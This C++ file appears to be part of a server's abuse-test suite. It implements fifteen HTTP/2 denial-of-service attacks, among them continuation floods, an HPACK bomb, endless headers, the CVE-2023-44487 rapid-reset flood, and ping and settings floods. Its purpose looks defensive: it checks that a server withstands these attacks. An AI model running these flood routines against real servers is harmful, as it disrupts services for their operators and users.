#include "tests/abuse/attacks.h"

#include <sys/resource.h>

#include <algorithm>

namespace clawplane::testing {
namespace {

// What goes into one write of a flood.
constexpr size_t kBatchBytes = 65'536;

// Sends `one(i)` for each i below `count`, many in a write, on connections that
// are opened anew when the server ends them.
template <typename One>
AttackResult Flood(const std::string& address, size_t count, One one,
                   bool is_deaf = false) {
  AttackResult result;
  while (result.sent < count) {
    Http2Attacker attacker(address);
    if (is_deaf) attacker.GoDeaf();
    if (!attacker.Begin()) {
      ++result.sent;  // a connection that is refused counts as well
      ++result.ended;
      continue;
    }
    bool goes_on = true;
    for (size_t i = 0; goes_on && result.sent < count;) {
      std::string batch;
      while (batch.size() < kBatchBytes && result.sent < count) {
        batch += one(i++);
        ++result.sent;
      }
      // One that takes nothing more has what it can have.
      goes_on = attacker.Send(batch, std::chrono::seconds(1));
    }
    if (!goes_on) {
      ++result.ended;
    } else if (!is_deaf) {
      // An answer to this one tells that all before it was looked at.
      attacker.Send(Frame(FrameType::kPing, kNoFlags, 0, "12345678"));
      attacker.WaitFor(FrameType::kPing, attacker.count(FrameType::kPing) + 1);
      if (!attacker.is_open()) ++result.ended;
    }
    result.goaway_code = std::max(result.goaway_code, attacker.goaway_code());
  }
  return result;
}

// Sends the headers of a call and, however that went, the next.
AttackResult FloodOfBlocks(const std::string& address, size_t count,
                           const std::string& block) {
  return Flood(address, count, [&](size_t i) {
    return HeaderFrames(static_cast<uint32_t>(2 * i + 1), kEndStream, block);
  });
}

std::string CallBlock(const Headers& more = {}) {
  return HeaderBlock(CallHeaders(kGetStatus, more));
}

AttackResult BigMetadata(const std::string& address, size_t count) {
  return FloodOfBlocks(address, count,
                       CallBlock({{"x-big", std::string(1'000'000, 'x')}}));
}

AttackResult ManySmallHeaders(const std::string& address, size_t count) {
  std::string block = CallBlock();
  for (int i = 0; i < 100'000; ++i) block += Literal("a", "");
  return FloodOfBlocks(address, count, block);
}

// One header block that never ends.
AttackResult ContinuationFlood(const std::string& address, size_t count) {
  const std::string first =
      Frame(FrameType::kHeaders, kEndStream, 1, CallBlock());
  const std::string rest =
      Frame(FrameType::kContinuation, kNoFlags, 1, Literal("a", "b"));
  return Flood(address, count, [&](size_t i) { return i == 0 ? first : rest; });
}

// Frames that hold nothing, and of which there can be any number.
AttackResult EmptyContinuations(const std::string& address, size_t count) {
  const std::string first =
      Frame(FrameType::kHeaders, kEndStream, 1, CallBlock());
  const std::string rest = Frame(FrameType::kContinuation, kNoFlags, 1);
  return Flood(address, count, [&](size_t i) { return i == 0 ? first : rest; });
}

// A header of 4,000 bytes is put into the table, and then named a byte a time:
// 4,000 times as much as was sent.
AttackResult HpackBomb(const std::string& address, size_t count) {
  std::string block = CallBlock();
  block += std::string("\x40\x01", 2) + "b" + HpackNumber(0, 7, 4'000) +
           std::string(4'000, 'b');
  block += std::string(12'000, '\xbe');
  return FloodOfBlocks(address, count, block);
}

// The length of a name, with zeros before it that never end.
AttackResult HpackZeros(const std::string& address, size_t count) {
  const std::string first = Frame(FrameType::kHeaders, kEndStream, 1,
                                  CallBlock() + std::string("\0\x7f", 2));
  const std::string rest =
      Frame(FrameType::kContinuation, kNoFlags, 1, std::string(1'000, '\x80'));
  return Flood(address, count, [&](size_t i) { return i == 0 ? first : rest; });
}

// A value that is told to be of 2 GB, a frame at a time.
AttackResult EndlessHeader(const std::string& address, size_t count) {
  const std::string first = Frame(FrameType::kHeaders, kEndStream, 1,
                                  CallBlock() + std::string("\0\x01x", 3) +
                                      HpackNumber(0, 7, 2'000'000'000));
  const std::string rest = Frame(FrameType::kContinuation, kNoFlags, 1,
                                 std::string(kFrameBytes, 'x'));
  return Flood(address, count, [&](size_t i) { return i == 0 ? first : rest; });
}

// The same a byte at a time, for a reader that looks at all it has each time.
AttackResult DrippedHeader(const std::string& address, size_t count) {
  const std::string first = Frame(FrameType::kHeaders, kEndStream, 1,
                                  CallBlock() + std::string("\0\x01x", 3) +
                                      HpackNumber(0, 7, 2'000'000'000));
  const std::string rest = Frame(FrameType::kContinuation, kNoFlags, 1, "x");
  return Flood(address, count, [&](size_t i) { return i == 0 ? first : rest; });
}

// CVE-2023-44487: each call is taken back at once.
AttackResult ResetFlood(const std::string& address, size_t count) {
  const std::string block = CallBlock();
  return Flood(address, count, [&](size_t i) {
    const auto stream = static_cast<uint32_t>(2 * i + 1);
    return HeaderFrames(stream, kNoFlags, block) + MessageBegin(stream, 0) +
           Frame(FrameType::kResetStream, kNoFlags, stream,
                 std::string("\0\0\0\x08", 4));
  });
}

AttackResult PingFlood(const std::string& address, size_t count) {
  const std::string ping = Frame(FrameType::kPing, kNoFlags, 0, "01234567");
  return Flood(address, count, [&](size_t) { return ping; });
}

// The answers pile up with the server.
AttackResult DeafPingFlood(const std::string& address, size_t count) {
  const std::string ping = Frame(FrameType::kPing, kNoFlags, 0, "01234567");
  return Flood(
      address, count, [&](size_t) { return ping; }, /*is_deaf=*/true);
}

AttackResult SettingsFlood(const std::string& address, size_t count) {
  const std::string settings = Frame(FrameType::kSettings, kNoFlags, 0);
  return Flood(address, count, [&](size_t) { return settings; });
}

// Frames without a byte, which no window bounds.
AttackResult EmptyData(const std::string& address, size_t count) {
  const std::string block = CallBlock();
  return Flood(address, count, [&](size_t i) {
    return i == 0 ? HeaderFrames(1, kNoFlags, block)
                  : Frame(FrameType::kData, kNoFlags, 1);
  });
}

AttackResult FailedTokens(const std::string& address, size_t count) {
  const std::string block =
      CallBlock({{"authorization", "Bearer " + std::string(64, 'x')}});
  return Flood(address, count, [&](size_t i) {
    const auto stream = static_cast<uint32_t>(2 * i + 1);
    const std::string nothing(5, '\0');
    return HeaderFrames(stream, kNoFlags, block) +
           Frame(FrameType::kData, kEndStream, stream, nothing);
  });
}

// Connections that are opened and dropped.
AttackResult ConnectionChurn(const std::string& address, size_t count) {
  AttackResult result;
  for (; result.sent < count; ++result.sent) {
    Http2Attacker attacker(address);
    attacker.Begin();
  }
  return result;
}

}  // namespace

const std::vector<Attack>& Attacks() {
  static const std::vector<Attack> all = {
      {"big metadata", "calls", 50, BigMetadata},
      {"many small headers", "calls", 50, ManySmallHeaders},
      {"continuation flood", "frames", 200'000, ContinuationFlood},
      {"empty continuations", "frames", 200'000, EmptyContinuations},
      {"hpack bomb", "calls", 500, HpackBomb},
      {"hpack zeros", "frames", 20'000, HpackZeros},
      {"endless header", "frames", 4'000, EndlessHeader},
      {"dripped header", "frames", 200'000, DrippedHeader},
      {"reset flood", "calls", 20'000, ResetFlood},
      {"ping flood", "pings", 100'000, PingFlood},
      {"deaf ping flood", "pings", 100'000, DeafPingFlood},
      {"settings flood", "frames", 100'000, SettingsFlood},
      {"empty data", "frames", 200'000, EmptyData},
      {"failed tokens", "calls", 20'000, FailedTokens},
      {"connection churn", "connections", 2'000, ConnectionChurn}};
  return all;
}

size_t AllowManyFiles() {
  rlimit limit = {};
  ::getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  ::setrlimit(RLIMIT_NOFILE, &limit);
  return limit.rlim_cur;
}

std::vector<Http2Attacker> OpenSilent(const std::string& address, size_t count,
                                      std::string_view bytes) {
  std::vector<Http2Attacker> all;
  for (size_t i = 0; i < count; ++i) {
    all.emplace_back(address);
    all.back().Send(bytes);
  }
  return all;
}

bool OpenStreams(Http2Attacker& attacker, const std::string& method,
                 size_t count, const std::string& request) {
  const std::string block = HeaderBlock(CallHeaders(method));
  for (size_t i = 0; i < count; ++i) {
    const auto stream = static_cast<uint32_t>(2 * i + 1);
    if (!attacker.Send(
            HeaderFrames(stream, kNoFlags, block) +
                MessageBegin(stream, static_cast<uint32_t>(request.size()),
                             request),
            std::chrono::seconds(2))) {
      return false;
    }
  }
  return true;
}

}  // namespace clawplane::testing
